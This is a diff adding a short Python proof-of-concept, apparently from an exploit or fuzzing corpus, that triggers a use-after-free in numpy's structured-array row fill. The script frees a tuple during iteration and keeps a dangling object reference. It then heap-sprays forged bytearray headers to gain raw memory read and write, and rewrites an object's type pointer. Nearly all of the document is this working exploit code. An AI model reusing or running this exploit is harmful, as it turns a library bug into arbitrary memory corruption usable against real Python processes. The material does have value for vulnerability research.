@@ -1,0 +1,66 @@
+# source: numpy arraytypes.c.src VOID_setitem (fills a structured row field by field from PyTuple_GET_ITEM of a tuple it holds borrowed from the list) + subarray field converted via PyArray_DiscoverDTypeAndShape -> PySequence_Fast -> script __iter__ (allowed: 'iterate an attribute')
+# family: structured-row fill from a tuple; script iterator in a subarray field frees the tuple; the next (object) field stores a stale pointer (r_f8sub)
+# goal: dangling reference to a freed frozenset stored in the array, reclaimed as a fake bytearray: raw memory read and type-pointer write
+import numpy as np
+
+
+class Basket:
+    def __init__(self, items, src):
+        self.items = list(items)
+        self.src = src
+
+    def __len__(self):
+        return len(self.items)
+
+    def __getitem__(self, i):
+        return self.items[i]
+
+    def __iter__(self):
+        return iter(self.src)
+
+
+class Box:
+    pass
+
+
+class Other:
+    pass
+
+
+rows = []
+
+
+def feed():
+    rows.clear()
+    yield 1.0
+
+
+def q(n):
+    return n.to_bytes(8, "little")
+
+
+def bytearray_type():
+    h = hash(bytearray) & (2**64 - 1)
+    return ((h << 4) | (h >> 60)) & (2**64 - 1)
+
+
+def where(o):
+    return int(repr(o).split(" at ")[1].rstrip(">"), 16)
+
+
+rows.append((Basket([1.0], feed()), frozenset([2])))
+table = np.array(rows, dtype=[("w", "f8", (1,)), ("tag", "O")])
+res = table[0]["tag"]
+fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
+spray = []
+for k in range(8):
+    b = bytearray(215)
+    b[16:16 + len(fake)] = fake
+    spray.append(b)
+print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
+bx = Box()
+ot = Other()
+wb, wo = where(bx), where(ot)
+print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
+res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
+print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
